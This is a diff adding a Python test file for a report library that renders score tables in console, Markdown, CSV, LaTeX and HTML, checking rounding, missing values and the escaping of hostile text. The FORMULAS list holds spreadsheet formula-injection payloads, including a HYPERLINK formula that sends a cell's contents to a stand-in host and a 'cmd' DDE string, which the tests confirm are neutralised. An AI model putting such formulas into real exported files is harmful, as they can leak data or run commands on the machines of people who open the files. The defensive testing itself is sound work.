@@ -1,0 +1,167 @@
+"""A table in five languages: what is rounded, what is unknown, and texts that are hostile."""
+
+import csv
+import io
+import math
+import re
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from eval.report.page import table_html
+from eval.report.tables import (
+    TableSpec,
+    comma_separated,
+    console,
+    csv_cell,
+    latex,
+    markdown,
+    with_rows,
+    write_rows,
+    write_tables,
+)
+from eval.report.text import printed
+from evenhand.errors import DataError
+
+HOSTILE = 'a|b & 50%_x #1 $y$ {z} ~^ \\n <b> "q", `c` *d* [e]\nsecond line\r\n'
+texts = st.text(st.one_of(st.sampled_from('|&%_#${}~^\\<>"`*[],;\r\n -†Δ'), st.characters(codec="utf-8")), max_size=12)
+cells = st.one_of(st.none(), st.integers(-(10**9), 10**9), st.floats(allow_nan=False, allow_infinity=False), texts)
+anything = st.lists(st.tuples(cells, cells, cells), min_size=1, max_size=4)
+
+
+def made(*rows: tuple[Any, ...], name: str = "made", **keys: Any) -> TableSpec:
+    """A small table of three columns."""
+    return with_rows(name, keys.pop("title", "Scores"), {"model": "", "DDS": "+.1f", "p": "p"}, rows, **keys)
+
+
+def read(text: str) -> list[list[str]]:
+    """The cells of a CSV."""
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+SMALL = made(("bench_avg", -8.84159, 0.00002), ("aio", None, 0.5), note="5% & more")
+
+
+def test_a_small_table_in_five_languages() -> None:
+    assert console(SMALL).splitlines() == [
+        "Scores",
+        "model       DDS       p",
+        "bench_avg  -8.8  <.0001",
+        "aio           –   .5000",
+    ]
+    assert markdown(SMALL).splitlines() == [
+        *("**Scores**", ""),
+        "| model      |  DDS |       p |",
+        "| ---------- | ---: | ------: |",
+        "| bench\\_avg | -8.8 | \\<.0001 |",
+        "| aio        |    – |   .5000 |",
+        *("", "5% \\& more"),
+    ]
+    assert comma_separated(SMALL) == "model,DDS,p\nbench_avg,-8.84159,2e-05\naio,,0.5\n"
+    assert latex(SMALL).splitlines() == [
+        *(r"\begin{table}", r"\centering", r"\caption{Scores}", r"\label{tab:made}", r"\begin{tabular}{lrr}"),
+        *(r"\toprule", r"model & DDS & p \\", r"\midrule"),
+        *(r"bench\_avg & $-$8.8 & \textless{}.0001 \\", r"aio & -- & .5000 \\", r"\bottomrule", r"\end{tabular}"),
+        *(r"\par\smallskip{\footnotesize 5\% \& more\par}", r"\end{table}"),
+    ]
+    html = table_html(SMALL)
+    assert re.findall(r">([^<>]+)</t[hd]>", html) == [
+        "model",
+        "DDS",
+        "p",
+        "bench_avg",
+        "-8.8",
+        "&lt;.0001",
+        "aio",
+        "–",
+        ".5000",
+    ]
+    assert "5% &amp; more" in html
+
+
+@pytest.mark.parametrize(
+    ("cell", "form", "text"),
+    [
+        *((None, "+.1f", "–"), (math.nan, ".1f", "–"), (8.26, "", "8.3"), (8, "", "8"), (3244, "d", "3244")),
+        *((8.26, "+.1f", "+8.3"), (-0.04, "+.1f", "0.0"), (0.04, "+.1f", "0.0"), (-0.04, "", "0.0")),
+        *((-10.0, "", "-10.0"), (0.1234, ".1%", "12.3%"), (12.0, "d", "12"), (math.inf, "+.1f", "+inf")),
+        *((0.0499, "p", ".0499"), (0.00009, "p", "<.0001"), (1.0, "p", "1.0000"), (True, "", "yes"), (False, "", "no")),
+        *(("none", "+.1f", "none"), ((-1.26, 2.0), "+.1f", "[-1.3, +2.0]"), ((None, 2.0), ".1f", "–")),
+    ],
+)
+def test_a_cell_is_printed(cell: Any, form: str, text: str) -> None:
+    assert printed(cell, form) == text
+
+
+def test_an_interval_is_one_cell_and_two_columns_of_a_csv() -> None:
+    frame = pd.DataFrame({"judge": ["a", "b"], "low": [-1.26, math.nan], "high": [2.0, math.nan]})
+    columns: Any = {"judge": ("judge", ""), "95%": (("low", "high"), ".1f")}
+    table = TableSpec(name="made", title="", frame=frame, columns=columns)
+    assert table.cells == [["a", "[-1.3, 2.0]"], ["b", "–"]]
+    assert comma_separated(table) == "judge,95% low,95% high\na,-1.26,2.0\nb,,\n"
+    with pytest.raises(DataError, match="table made: its frame has no column top"):
+        TableSpec(name="made", title="", frame=frame, columns={"95%": (("low", "top"), "")})
+
+
+def test_hostile_text_stays_one_cell_in_every_language() -> None:
+    table = made((HOSTILE, 1.0, 1.0), title=HOSTILE, note=HOSTILE)
+    assert read(comma_separated(table))[1][0] == HOSTILE
+    line = markdown(table).splitlines()[4]
+    assert len(re.split(r"(?<!\\)\|", line)) == 5
+    assert r"\`c\` \*d\* \[e\] second line" in line
+    assert r"\<b\>" in line
+    line = next(line for line in latex(table).splitlines() if line.startswith("a"))
+    words = r"a\textbar{}b \& 50\%\_x \#1 \$y\$ \{z\} \textasciitilde{}\textasciicircum{} \textbackslash{}n"
+    assert line.startswith(words)
+    assert "<b>" not in table_html(table)
+    # A bracket or star would be an argument of the line break before it.
+    assert "\n{}[1.0, 2.0] & " in latex(made(("[1.0, 2.0]", 1.0, 1.0)))
+
+
+FORMULAS = ['=HYPERLINK("http://x/"&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+SUM(A1)", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_text_in_a_csv_file_is_a_formula(text: str, tmp_path: Path) -> None:
+    _, scores = write_rows(tmp_path, "scores", [{"model": text, "datasets": (text, "b"), "dds": -1.5}])
+    for written in (comma_separated(made((text, 1.0, 1.0))), scores.read_bytes().decode()):
+        assert read(written)[1][0] == f"'{text}"
+    assert scores.read_text().rstrip().endswith(",-1.5")
+    for number in ("+1.2", "-3.0 [-5.1, 2.0]", "+0.4 ± 0.1", "-12%", "a=1", "–"):
+        assert csv_cell(number) == number  # as we print it
+
+
+@given(anything)
+@example([("\r", None, "a\rb")])
+def test_any_table_can_be_read_back_from_its_csv(rows: list[tuple[Any, ...]]) -> None:
+    head, *lines = read(comma_separated(made(*rows)))
+    assert head == ["model", "DDS", "p"]
+    for line, row in zip(lines, rows, strict=True):
+        assert line == ["" if cell is None else str(csv_cell(cell)) for cell in row]
+
+
+@given(anything, texts)
+def test_any_table_has_its_lines_and_cells_in_markdown_and_latex(rows: list[tuple[Any, ...]], title: str) -> None:
+    table = made(*rows, title=title, note=title)
+    lines = [line for line in markdown(table).split("\n") if line.startswith("| ")]
+    assert len(lines) == len(rows) + 2
+    assert all(len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) == 4 for line in lines)
+    body = latex(table).partition("\\midrule\n")[2].partition("\\bottomrule")[0].splitlines()
+    assert len(body) == len(rows)
+    assert all(len(re.findall(r"(?<!\\)&", line)) == 2 and line.endswith(r" \\") for line in body)
+
+
+def test_tables_are_written_in_three_formats_under_names_that_are_files_own(tmp_path: Path) -> None:
+    for name in ("", "../made", "a b", "ä"):
+        with pytest.raises(DataError, match="its name becomes a file's"):
+            made(name=name)
+    with pytest.raises(DataError, match="two tables are called 'made'"):
+        write_tables(tmp_path / "out", [SMALL, SMALL])
+    assert not (tmp_path / "out").exists()
+    paths = write_tables(tmp_path / "out", [SMALL, made(name="other")])
+    assert sorted(path.name for path in paths) == [f"{n}.{s}" for n in ("made", "other") for s in ("csv", "md", "tex")]
+    assert (tmp_path / "out" / "made.md").read_text(encoding="utf-8") == markdown(SMALL)
